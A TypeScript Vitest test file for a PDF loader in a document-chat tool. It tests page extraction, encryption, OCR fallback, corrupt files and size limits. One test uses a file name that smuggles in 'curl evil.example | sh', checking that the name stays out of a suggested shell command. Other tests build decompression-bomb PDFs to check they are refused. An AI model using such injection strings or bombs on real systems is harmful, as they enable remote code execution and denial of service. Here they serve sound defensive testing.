import fc from 'fast-check';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { docchatFailure } from '../test-helpers/docchat-failure.ts';
import {
  buildCorruptPdf,
  buildDecompressionBombPdf,
  buildEncryptedPdf,
  buildPositionedTextPdf,
  buildScannedPdf,
  buildTextPdf,
  truncatePdf,
} from '../test-helpers/pdf-fixtures.ts';
import { buildTruncatedPdf } from '../test-helpers/truncated-pdf.ts';
import { createPdfLoader } from './pdf-loader.ts';

const loader = createPdfLoader();

describe('createPdfLoader', () => {
  afterEach(() => {
    vi.restoreAllMocks();
  });

  it('extracts each page and records where it lies in the text', async () => {
    const pageTexts = [
      'Alpha page one\nsecond line of one',
      'Beta page two',
      'Gamma page three\nwith two lines',
    ];
    const document = await loader.load({ name: 'three.pdf', data: await buildTextPdf(pageTexts) });
    expect(document.source).toBe('three.pdf');
    expect(document.kind).toBe('pdf');
    expect(document.text).toBe(pageTexts.join('\n\n'));
    expect(document.pages).toEqual([
      { page: 1, start: 0, end: 33 },
      { page: 2, start: 35, end: 48 },
      { page: 3, start: 50, end: 81 },
    ]);
    for (const span of document.pages) {
      expect(document.text.slice(span.start, span.end)).toBe(pageTexts[span.page - 1]);
    }
  });

  it('reports progress page by page', async () => {
    const onProgress = vi.fn();
    await loader.load(
      { name: 'p.pdf', data: await buildTextPdf(['one page', 'two page', 'three page']) },
      { onProgress },
    );
    expect(onProgress.mock.calls).toEqual([
      [1, 3],
      [2, 3],
      [3, 3],
    ]);
  });

  it('takes the title from the metadata, and has none when the PDF has none', async () => {
    const titled = await loader.load({
      name: 't.pdf',
      data: await buildTextPdf(['body text'], { title: '  A  Study of Things ' }),
    });
    expect(titled.title).toBe('A Study of Things');
    const word = await loader.load({
      name: 'w.pdf',
      data: await buildTextPdf(['body text'], { title: 'Microsoft Word - report_final.docx' }),
    });
    expect(word.title).toBe('report_final');
    const untitled = await loader.load({ name: 'u.pdf', data: await buildTextPdf(['body text']) });
    expect(untitled).not.toHaveProperty('title');
  });

  it('lays out words, columns and hyphenated words', async () => {
    const data = await buildPositionedTextPdf([
      [
        { text: 'Word', x: 72, y: 700 },
        { text: 'spaced', x: 110, y: 700 },
        { text: 'a model trained without super-', x: 72, y: 686 },
        { text: 'vised fine-tuning beats supervised', x: 72, y: 672 },
        { text: 'New paragraph', x: 72, y: 640 },
      ],
    ]);
    const document = await loader.load({ name: 'layout.pdf', data });
    expect(document.text).toBe(
      'Word spaced\na model trained without supervised fine-tuning beats supervised\n\nNew paragraph',
    );
  });

  it('does not detach or change the caller’s bytes', async () => {
    const data = await buildTextPdf(['keep my bytes']);
    const copy = data.slice();
    await loader.load({ name: 'k.pdf', data });
    expect(data).toEqual(copy);
    await loader.load({ name: 'k.pdf', data: Buffer.from(data) });
  });

  it('reads a PDF encrypted with RC4 or AES given the right password', async () => {
    for (const cipher of ['rc4', 'aes'] as const) {
      const data = await buildEncryptedPdf(['Secret plans\nfor the weekend'], {
        userPassword: 'hunter2',
        cipher,
        title: 'Plans',
      });
      const document = await loader.load({ name: 'secret.pdf', data }, { password: 'hunter2' });
      expect(document.text).toBe('Secret plans\nfor the weekend');
      expect(document.title).toBe('Plans');
    }
  });

  it('asks for the password of an encrypted PDF, and says when it is wrong', async () => {
    const data = await buildEncryptedPdf(['Secret plans'], { userPassword: 'hunter2' });
    const missing = await docchatFailure(loader.load({ name: 'secret.pdf', data }));
    expect(missing.code).toBe('pdf_encrypted');
    expect(missing.message).toMatch(/secret\.pdf is password-protected\. Provide its password/);
    expect((await docchatFailure(loader.load({ name: 'secret.pdf', data }, { password: '' }))).code).toBe(
      'pdf_encrypted',
    );
    const wrong = await docchatFailure(loader.load({ name: 'secret.pdf', data }, { password: 'Hunter2' }));
    expect(wrong.code).toBe('pdf_wrong_password');
    expect(wrong.message).toMatch(/password given for secret\.pdf is wrong/);
  });

  it('opens a PDF encrypted with an empty user password without asking', async () => {
    const data = await buildEncryptedPdf(['Open to all'], { userPassword: '', ownerPassword: 'owner' });
    expect((await loader.load({ name: 'open.pdf', data })).text).toBe('Open to all');
  });

  it('ignores a password given for a PDF that has none', async () => {
    const document = await loader.load(
      { name: 'plain.pdf', data: await buildTextPdf(['plain']) },
      { password: 'x' },
    );
    expect(document.text).toBe('plain');
  });

  it('refuses scans without a text layer when OCR is off, recommending OCR', async () => {
    const ocr = { enabled: false, maxPages: 10, timeoutMs: 60_000 };
    for (const data of [await buildScannedPdf(), await buildScannedPdf({ pages: 3, pageNumbers: true })]) {
      const error = await docchatFailure(loader.load({ name: 'scan.pdf', data }, { ocr }));
      expect(error.code).toBe('pdf_no_text');
      expect(error.message).toMatch(/looks like a scan.*OCR.*ocrmypdf/s);
    }
  });

  it('refuses scans in which OCR finds no text', async () => {
    const error = await docchatFailure(loader.load({ name: 'scan.pdf', data: await buildScannedPdf() }));
    expect(error.code).toBe('pdf_no_text');
    expect(error.message).toMatch(/OCR found no readable text/);
    expect(error.details).toMatchObject({ ocr: true });
  }, 180_000);

  it('never puts the file name into the OCR command it suggests', async () => {
    const name = 'scan$(curl evil.example | sh)`x`.pdf';
    const ocr = { enabled: false, maxPages: 10, timeoutMs: 60_000 };
    const error = await docchatFailure(loader.load({ name, data: await buildScannedPdf() }, { ocr }));
    const command = /`(ocrmypdf[^`]*)`/.exec(error.message)?.[1] ?? '';
    expect(command).toBe('ocrmypdf input.pdf output.pdf');
  });

  it('keeps the readable pages of a truncated PDF and says how many they are', async () => {
    const pages = Array.from({ length: 22 }, (_, i) => `Page ${i + 1} is about topic ${i + 1}.`);
    const document = await loader.load({ name: 'cut.pdf', data: buildTruncatedPdf(pages, 9) });
    expect(document.readablePages).toBe(9);
    expect(document.pages).toHaveLength(22);
    expect(document.text).toContain('Page 9 is about topic 9.');
    expect(document.text).not.toContain('Page 10');
    const whole = await loader.load({
      name: 'whole.pdf',
      data: await buildTextPdf(['First page', '', 'Third page']),
    });
    expect(whole.readablePages).toBeUndefined();
  });

  it('accepts a one-word document', async () => {
    expect((await loader.load({ name: 'short.pdf', data: await buildTextPdf(['Secret!']) })).text).toBe(
      'Secret!',
    );
  });

  it('refuses damaged, truncated and fake PDFs as pdf_corrupt', async () => {
    const good = await buildTextPdf(['some text on a page']);
    const bad = [
      buildCorruptPdf(),
      truncatePdf(good, 0.5),
      truncatePdf(good, 0.9),
      new TextEncoder().encode('hello'),
    ];
    for (const data of bad) {
      const error = await docchatFailure(loader.load({ name: 'bad.pdf', data }));
      expect(error.code).toBe('pdf_corrupt');
      expect(error.message).toMatch(/bad\.pdf could not be read as a PDF/);
    }
  });

  it('refuses an empty file', async () => {
    expect((await docchatFailure(loader.load({ name: 'e.pdf', data: new Uint8Array() }))).code).toBe(
      'empty_file',
    );
  });

  it('stops between pages when the signal fires', async () => {
    const controller = new AbortController();
    const onProgress = vi.fn((done: number) => {
      if (done === 1) controller.abort();
    });
    const data = await buildTextPdf(['one', 'two', 'three']);
    const error = await docchatFailure(
      loader.load({ name: 'a.pdf', data }, { signal: controller.signal, onProgress }),
    );
    expect(error.code).toBe('aborted');
    expect(onProgress).toHaveBeenCalledTimes(1);
    expect(
      (await docchatFailure(loader.load({ name: 'a.pdf', data }, { signal: controller.signal }))).code,
    ).toBe('aborted');
  });

  it('stops while the document is still opening', async () => {
    const controller = new AbortController();
    const loading = loader.load(
      { name: 'a.pdf', data: await buildTextPdf(['one']) },
      { signal: controller.signal },
    );
    controller.abort();
    expect((await docchatFailure(loading)).code).toBe('aborted');
  });

  it('prints nothing, even for broken files', async () => {
    const spies = (['log', 'info', 'warn', 'error', 'debug'] as const).map((method) =>
      vi.spyOn(console, method).mockImplementation(() => undefined),
    );
    const good = await buildTextPdf(['quiet please']);
    await loader.load({ name: 'q.pdf', data: good });
    await docchatFailure(loader.load({ name: 'q.pdf', data: truncatePdf(good, 0.7) }));
    await docchatFailure(loader.load({ name: 'q.pdf', data: await buildScannedPdf() }));
    for (const spy of spies) expect(spy).not.toHaveBeenCalled();
  });

  it('gives page spans that match each page’s text for any pages', async () => {
    const word = fc.stringMatching(/^[A-Za-z][a-z]{2,9}$/);
    const line = fc.array(word, { minLength: 1, maxLength: 6 }).map((words) => words.join(' '));
    const page = fc.array(line, { minLength: 1, maxLength: 4 }).map((lines) => lines.join('\n'));
    await fc.assert(
      fc.asyncProperty(fc.array(page, { minLength: 1, maxLength: 4 }), async (pageTexts) => {
        const document = await loader.load({ name: 'p.pdf', data: await buildTextPdf(pageTexts) });
        expect(document.pages.map((span) => span.page)).toEqual(pageTexts.map((_, index) => index + 1));
        let previousEnd = -1;
        for (const span of document.pages) {
          expect(span.start).toBeGreaterThan(previousEnd);
          expect(document.text.slice(span.start, span.end)).toBe(pageTexts[span.page - 1]);
          previousEnd = span.end;
        }
        expect(document.pages.at(-1)?.end).toBe(document.text.length);
      }),
      { numRuns: 15 },
    );
  });

  it('keeps where each text item lies: its box on the page and its characters in the text', async () => {
    const runs = [
      { text: 'Left column first line', x: 72, y: 700 },
      { text: 'Right column words', x: 340, y: 700, size: 10 },
      { text: 'Left column second', x: 72, y: 686 },
    ];
    const data = await buildPositionedTextPdf([runs, [{ text: 'Second page', x: 100, y: 100 }]]);
    const document = await loader.load({ name: 'boxes.pdf', data });
    const boxes = document.textBoxes ?? [];
    expect(boxes.map((box) => document.text.slice(box.start, box.end))).toEqual([
      ...runs.map((run) => run.text),
      'Second page',
    ]);
    expect(boxes.map((box) => box.page)).toEqual([1, 1, 1, 2]);
    runs.forEach((run, index) => {
      const box = boxes[index];
      const size = run.size ?? 12;
      expect(box?.x).toBeCloseTo(run.x / 612, 3);
      // The baseline lies inside the box, the run's ascent above it.
      const baseline = (792 - run.y) / 792;
      expect(box?.y).toBeLessThan(baseline - (0.6 * size) / 792);
      expect((box?.y ?? 0) + (box?.height ?? 0)).toBeGreaterThan(baseline);
      expect(box?.height).toBeCloseTo(size / 792, 2);
    });
    // Helvetica is about half an em per character: the box spans the run, not the page.
    expect(boxes[0]?.width).toBeGreaterThan((0.4 * 12 * 'Left column first line'.length) / 612);
    expect(boxes[0]?.width).toBeLessThan((0.6 * 12 * 'Left column first line'.length) / 612);
  });
});

describe('createPdfLoader headings', () => {
  it('finds headings from font sizes when the PDF has no outline, nested by size', async () => {
    const body = 'Body text set in the size most characters use, long enough to be the body.';
    const data = await buildPositionedTextPdf([
      [
        { text: '1 Introduction', x: 72, y: 720, size: 18 },
        { text: body, x: 72, y: 690 },
        { text: '1.1 Motivation', x: 72, y: 660, size: 14 },
        { text: body, x: 72, y: 630 },
      ],
      [
        { text: body, x: 72, y: 720 },
        { text: '2 Method', x: 72, y: 690, size: 18 },
        { text: body, x: 72, y: 660 },
      ],
    ]);
    const document = await createPdfLoader().load({ name: 'headed.pdf', data });
    expect(document.headings?.map(({ level, text }) => ({ level, text }))).toEqual([
      { level: 1, text: '1 Introduction' },
      { level: 2, text: '1.1 Motivation' },
      { level: 1, text: '2 Method' },
    ]);
    for (const heading of document.headings ?? []) {
      expect(document.text.slice(heading.start, heading.end)).toBe(heading.text);
    }
  });
});

describe('createPdfLoader limits', () => {
  const defaults = {
    maxCharacters: 3_000_000,
    maxPages: 2_000,
    parseTimeoutMs: 20_000,
    maxPdfDecodedMb: 100,
  };

  it('reads an honest PDF within the default limits', async () => {
    const pdf = await buildTextPdf(['An honest first page', 'and a second one']);
    const document = await loader.load({ name: 'honest.pdf', data: pdf }, { limits: defaults });
    expect(document.pages).toHaveLength(2);
  });

  it('refuses 3,000 pages sharing one content stream before reading a page', async () => {
    const pdf = await buildDecompressionBombPdf({ decodedBytes: 4_400_000, pages: 3_000 });
    expect(pdf.length).toBeLessThan(2_000_000);
    const onProgress = vi.fn();
    const error = await docchatFailure(
      loader.load({ name: 'pages.pdf', data: pdf }, { limits: defaults, onProgress }),
    );
    expect(error.code).toBe('document_too_large');
    expect(error.details).toMatchObject({ limit: 'pages', max: 2_000, setting: 'DOCCHAT_MAX_PAGES' });
    expect(onProgress).not.toHaveBeenCalled();
  });

  it('refuses a content stream that decodes past DOCCHAT_MAX_PDF_DECODED_MB before pdf.js reads it', async () => {
    const pdf = await buildDecompressionBombPdf({ decodedBytes: 300_000_000 });
    const onProgress = vi.fn();
    const error = await docchatFailure(
      loader.load({ name: 'bomb.pdf', data: pdf }, { limits: { maxPdfDecodedMb: 100 }, onProgress }),
    );
    expect(error.code).toBe('document_too_large');
    expect(error.details).toMatchObject({
      limit: 'pdf_decoded',
      max: 100,
      setting: 'DOCCHAT_MAX_PDF_DECODED_MB',
    });
    expect(error.message).toContain('100 MB of decompressed PDF content');
    expect(onProgress).not.toHaveBeenCalled();
  });

  it('reads a PDF whose streams stay under DOCCHAT_MAX_PDF_DECODED_MB, however large its images', async () => {
    const pdf = await buildDecompressionBombPdf({ decodedBytes: 200_000, imageBytes: 4 * 1024 * 1024 });
    const document = await loader.load({ name: 'fine.pdf', data: pdf }, { limits: { maxPdfDecodedMb: 1 } });
    expect(document.text).toContain('All work and no play');
  });

  it('stops a content stream that decodes to hundreds of MB at the character limit, mid-page', async () => {
    const pdf = await buildDecompressionBombPdf({ decodedBytes: 300_000_000 });
    const error = await docchatFailure(
      loader.load({ name: 'bomb.pdf', data: pdf }, { limits: { maxCharacters: 500_000 } }),
    );
    expect(error.code).toBe('document_too_large');
    expect(error.details).toMatchObject({ limit: 'characters', max: 500_000 });
  });

  it('stops between text chunks once the parse time is spent', async () => {
    const pdf = await buildDecompressionBombPdf({ decodedBytes: 300_000_000 });
    const error = await docchatFailure(
      loader.load({ name: 'slow.pdf', data: pdf }, { limits: { parseTimeoutMs: 200 } }),
    );
    expect(error.code).toBe('document_too_large');
    expect(error.details).toMatchObject({ limit: 'parse_time', setting: 'DOCCHAT_PARSE_TIMEOUT_MS' });
  });
});
